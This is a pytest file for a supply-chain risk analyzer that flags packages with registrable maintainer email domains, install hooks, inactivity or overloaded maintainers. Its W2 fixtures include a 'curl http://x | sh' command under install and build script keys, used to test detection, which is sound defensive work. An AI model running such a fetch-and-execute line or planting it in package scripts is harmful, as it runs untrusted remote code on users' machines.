"""Per-signal analyzer behavior on hand-built corpora."""

from __future__ import annotations

from datetime import timedelta, timezone, datetime

import pytest

from weaklink.providers import DomainStatus, STATUS_AVAILABLE, STATUS_REGISTERED, STATUS_UNKNOWN
from weaklink.reach import build_dependents_index, build_maintainer_index
from weaklink.signals import (
    AnalyzerConfig,
    WeakLinkFinding,
    analyze_w1,
    analyze_w2,
    analyze_w3,
    analyze_w4,
    analyze_w5,
    analyze_w6,
    mean_maintainers,
)

from conftest import REF, make_corpus, make_record, person

EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)


class MapDomainProvider:
    def __init__(self, statuses):
        self.statuses = statuses
        self.calls = []

    def check(self, domain):
        self.calls.append(domain)
        return DomainStatus(domain=domain, status=self.statuses.get(domain, STATUS_UNKNOWN), checked_at=EPOCH, source="fixture")


class ExplodingProvider:
    """Must never be treated as available; analyzers see unknown."""

    def check(self, domain):
        return DomainStatus(domain=domain, status=STATUS_UNKNOWN, checked_at=EPOCH, source="live")


def cfg_for(corpus, **kwargs) -> AnalyzerConfig:
    return AnalyzerConfig(**kwargs).resolved(corpus)


# --- W1 ------------------------------------------------------------------


def test_w1_fan_out_per_owned_package():
    m = person(email="m@oldsite.io")
    other = person(email="k@fine.example")
    records = [make_record(f"p{i}", maintainers=(m,)) for i in range(3)]
    records.append(make_record("q", maintainers=(other,)))
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    provider = MapDomainProvider({"oldsite.io": STATUS_AVAILABLE, "fine.example": STATUS_REGISTERED})
    findings, histogram = analyze_w1(corpus, build_maintainer_index(corpus), provider, cfg)
    assert len(findings) == 3
    assert {f.subject_id for f in findings} == {"p0", "p1", "p2"}
    assert all(f.evidence == {"domain": "oldsite.io", "maintainer_key": "m@oldsite.io"} for f in findings)
    assert histogram == {"fine.example": 1, "oldsite.io": 3}


def test_w1_all_registered_yields_nothing():
    m = person(email="m@solid.example")
    corpus = make_corpus([make_record("p", maintainers=(m,))])
    cfg = cfg_for(corpus)
    provider = MapDomainProvider({"solid.example": STATUS_REGISTERED})
    findings, _ = analyze_w1(corpus, build_maintainer_index(corpus), provider, cfg)
    assert findings == []


def test_w1_provider_failure_never_available():
    m = person(email="m@flaky.example")
    corpus = make_corpus([make_record("p", maintainers=(m,))])
    cfg = cfg_for(corpus)
    findings, _ = analyze_w1(corpus, build_maintainer_index(corpus), ExplodingProvider(), cfg)
    assert findings == []


def test_w1_name_only_maintainers_have_no_domain():
    m = person(name="Anonymous")
    corpus = make_corpus([make_record("p", maintainers=(m,))])
    cfg = cfg_for(corpus)
    provider = MapDomainProvider({})
    findings, histogram = analyze_w1(corpus, build_maintainer_index(corpus), provider, cfg)
    assert findings == []
    assert histogram == {}
    assert provider.calls == []


# --- W2 ------------------------------------------------------------------


def test_w2_flags_install_keys_only():
    corpus = make_corpus(
        [
            make_record("a", scripts={"postinstall": "node setup.js"}),
            make_record("b", scripts={"test": "node test.js"}),
            make_record("c", scripts={"PreInstall": "node x.js", "build": "tsc"}),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w2(corpus, cfg)
    assert {f.subject_id: f.evidence["script_key"] for f in findings} == {"a": "postinstall", "c": "PreInstall"}
    assert all(f.evidence["has_suspicious_tokens"] == "false" for f in findings)


def test_w2_token_scan_enriches_but_does_not_gate():
    corpus = make_corpus(
        [
            make_record("bad", scripts={"install": "curl http://x | sh"}),
            make_record("sneaky", scripts={"build": "curl http://x | sh"}),  # not an install key
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w2(corpus, cfg)
    assert [f.subject_id for f in findings] == ["bad"]
    assert findings[0].evidence["has_suspicious_tokens"] == "true"


# --- W3 ------------------------------------------------------------------


def test_w3_inactive_package():
    corpus = make_corpus(
        [
            make_record("old", last_modified=REF - timedelta(days=3 * 365)),
            make_record("fresh", last_modified=REF),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    inactive = {f.subject_id for f in findings if f.signal == "W3_inactive_pkg"}
    assert inactive == {"old"}


def test_w3_boundary_is_strict():
    corpus = make_corpus(
        [
            make_record("edge", last_modified=REF - timedelta(days=730)),
            make_record("past", last_modified=REF - timedelta(days=730, hours=1)),
            make_record("fresh", last_modified=REF),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    inactive = {f.subject_id for f in findings if f.signal == "W3_inactive_pkg"}
    assert inactive == {"past"}


def test_w3_inactive_maintainer_needs_every_maintainer_stale():
    stale = person(email="stale@dead.example")
    busy = person(email="busy@alive.example")
    corpus = make_corpus(
        [
            # Both maintainers' registry-wide activity is stale.
            make_record("fully-stale", maintainers=(stale,), last_modified=REF - timedelta(days=900)),
            # Inactive package but one maintainer is active elsewhere.
            make_record("half-stale", maintainers=(stale, busy), last_modified=REF - timedelta(days=900)),
            make_record("busy-home", maintainers=(busy,), last_modified=REF),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    inactive = {f.subject_id for f in findings if f.signal == "W3_inactive_pkg"}
    inactive_maint = {f.subject_id for f in findings if f.signal == "W3_inactive_maintainer"}
    assert inactive == {"fully-stale", "half-stale"}
    assert inactive_maint == {"fully-stale"}


def test_w3_inactive_maintainer_subset_of_inactive_pkg():
    import random

    rng = random.Random(7)
    pool = [person(email=f"m{j}@pool.example") for j in range(10)]
    records = []
    for i in range(120):
        records.append(
            make_record(
                f"p{i}",
                maintainers=tuple(rng.sample(pool, rng.randrange(0, 3))),
                last_modified=REF - timedelta(days=rng.randrange(0, 1500)),
            )
        )
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    inactive = {f.subject_id for f in findings if f.signal == "W3_inactive_pkg"}
    inactive_maint = {f.subject_id for f in findings if f.signal == "W3_inactive_maintainer"}
    assert inactive_maint <= inactive


def test_w3_deprecated_requires_stale_deprecation():
    corpus = make_corpus(
        [
            make_record("old-deprecated", deprecated="use x", last_modified=REF - timedelta(days=900)),
            make_record("new-deprecated", deprecated="use y", last_modified=REF),
            make_record("old-plain", last_modified=REF - timedelta(days=900)),
            make_record("anchor", last_modified=REF),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    deprecated = {f.subject_id for f in findings if f.signal == "W3_deprecated"}
    assert deprecated == {"old-deprecated"}


def test_w3_threshold_monotonicity():
    import random

    rng = random.Random(3)
    records = [
        make_record(f"p{i}", last_modified=REF - timedelta(days=rng.randrange(0, 1800))) for i in range(150)
    ]
    records.append(make_record("anchor", last_modified=REF))
    corpus = make_corpus(records)
    mindex = build_maintainer_index(corpus)
    counts = []
    for days in (365, 730, 1095):
        cfg = AnalyzerConfig(inactivity_days=days).resolved(corpus)
        findings = analyze_w3(corpus, mindex, cfg)
        counts.append(sum(1 for f in findings if f.signal == "W3_inactive_pkg"))
    assert counts[0] >= counts[1] >= counts[2]


# --- W4 ------------------------------------------------------------------


def test_w4_flags_extreme_maintainer_count():
    crowd = tuple(person(email=f"m{j}@crowd.example") for j in range(30))
    records = [make_record("crowded", maintainers=crowd)]
    records += [make_record(f"p{i}", maintainers=(person(email=f"s{i}@solo.example"),)) for i in range(99)]
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    findings = analyze_w4(corpus, cfg)
    assert [f.subject_id for f in findings] == ["crowded"]
    assert findings[0].evidence["maintainer_count"] == "30"
    expected_avg = (30 + 99) / 100
    assert findings[0].evidence["registry_avg"] == f"{expected_avg:.4f}"
    assert abs(mean_maintainers(corpus) - expected_avg) < 1e-12


def test_w4_degenerate_ranking_emits_all():
    records = [make_record(f"p{i}", maintainers=(person(email=f"m{i}@x.example"),)) for i in range(50)]
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    findings = analyze_w4(corpus, cfg)
    assert len(findings) == 50  # every package ties with the cutoff


def test_w4_zero_maintainer_corpus_emits_nothing():
    corpus = make_corpus([make_record(f"p{i}") for i in range(10)])
    cfg = cfg_for(corpus)
    assert analyze_w4(corpus, cfg) == []


# --- W5 ------------------------------------------------------------------


def test_w5_low_ratio_flagged():
    contribs = tuple(person(email=f"c{j}@people.example") for j in range(40))
    records = [make_record("imbalanced", maintainers=(person(email="solo@x.example"),), contributors=contribs)]
    for i in range(99):
        records.append(
            make_record(
                f"balanced{i}",
                maintainers=tuple(person(email=f"m{i}x{j}@y.example") for j in range(3)),
                contributors=tuple(person(email=f"c{i}x{j}@y.example") for j in range(2)),
            )
        )
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    findings = analyze_w5(corpus, cfg)
    assert [f.subject_id for f in findings] == ["imbalanced"]
    assert findings[0].evidence.items() >= {"maintainers": "1", "contributors": "40"}.items()
    assert findings[0].evidence["ratio"] == f"{1 / 40:.6f}"


def test_w5_zero_contributor_packages_excluded():
    corpus = make_corpus([make_record("no-contrib", maintainers=(person(email="a@b.example"),))])
    cfg = cfg_for(corpus)
    assert analyze_w5(corpus, cfg) == []


# --- W6 ------------------------------------------------------------------


def _w6_corpus():
    big = person(email="big@owner.example")
    smalls = [person(email=f"tiny{j}@owner.example") for j in range(9)]
    records = []
    # The overloaded maintainer owns 5 packages, 3 of them inactive, with
    # many distinct dependents.
    for i in range(5):
        stale = i < 3
        records.append(
            make_record(
                f"owned{i}",
                maintainers=(big,),
                last_modified=REF - timedelta(days=900 if stale else 10),
                dependencies={"helper-lib": "*"} if i % 2 == 0 else {},
            )
        )
    for j, small in enumerate(smalls):
        records.append(make_record(f"minor{j}", maintainers=(small,), last_modified=REF))
    for d in range(30):
        deps = {f"owned{d % 5}": "*"}
        records.append(make_record(f"user{d}", maintainers=(smalls[d % 9],), last_modified=REF, dependencies=deps))
    return make_corpus(records)


def test_w6_flags_top_reach_and_evidence_shares():
    corpus = _w6_corpus()
    cfg = cfg_for(corpus, top_percent=10.0)
    mindex = build_maintainer_index(corpus)
    dindex = build_dependents_index(corpus)
    findings = analyze_w6(corpus, mindex, dindex, cfg)
    maint = [f for f in findings if f.subject_kind == "maintainer"]
    assert [f.subject_id for f in maint] == ["big@owner.example"]
    evidence = maint[0].evidence
    assert evidence["owned_count"] == "5"
    assert evidence["reach"] == "30"
    assert evidence["inactive_owned_share"] == "0.6000"
    assert evidence["dependency_using_share"] == "0.6000"
    pkg_findings = [f for f in findings if f.subject_kind == "package"]
    assert sorted(f.subject_id for f in pkg_findings) == [f"owned{i}" for i in range(5)]


def test_w6_zero_reach_not_flagged_unless_all_zero():
    m1 = person(email="a@one.example")
    m2 = person(email="b@two.example")
    corpus = make_corpus(
        [
            make_record("x", maintainers=(m1,)),
            make_record("y", maintainers=(m2,), dependencies={"x": "*"}),
        ]
    )
    cfg = cfg_for(corpus, top_percent=50.0)
    findings = analyze_w6(corpus, build_maintainer_index(corpus), build_dependents_index(corpus), cfg)
    maints = {f.subject_id for f in findings if f.subject_kind == "maintainer"}
    assert maints == {"a@one.example"}


# --- shared contracts -------------------------------------------------------


def test_findings_reject_unknown_evidence_keys():
    with pytest.raises(ValueError):
        WeakLinkFinding(subject_kind="package", subject_id="x", signal="W2", evidence={"bogus": "1"}, observed_at=REF)
    with pytest.raises(ValueError):
        WeakLinkFinding(subject_kind="package", subject_id="x", signal="W9", evidence={}, observed_at=REF)


def test_analyzers_pure_and_sorted():
    corpus = _w6_corpus()
    cfg = cfg_for(corpus, top_percent=10.0)
    mindex = build_maintainer_index(corpus)
    dindex = build_dependents_index(corpus)
    runs = []
    for _ in range(2):
        findings = analyze_w6(corpus, mindex, dindex, cfg) + analyze_w3(corpus, mindex, cfg) + analyze_w2(corpus, cfg)
        runs.append([f.to_dict() for f in findings])
    assert runs[0] == runs[1]
    w3 = analyze_w3(corpus, mindex, cfg)
    assert [f.sort_key() for f in w3] == sorted(f.sort_key() for f in w3)


def test_reference_time_defaults_to_corpus_max():
    corpus = make_corpus(
        [
            make_record("a", last_modified=REF - timedelta(days=5)),
            make_record("b", last_modified=REF - timedelta(days=1)),
        ]
    )
    cfg = AnalyzerConfig().resolved(corpus)
    assert cfg.reference_time == REF - timedelta(days=1)


def test_config_validation_and_round_trip():
    with pytest.raises(ValueError):
        AnalyzerConfig(inactivity_days=0)
    with pytest.raises(ValueError):
        AnalyzerConfig(top_percent=0)
    cfg = AnalyzerConfig(top_percent=2.5, inactivity_days=365)
    assert AnalyzerConfig.from_dict(cfg.to_dict()) == cfg
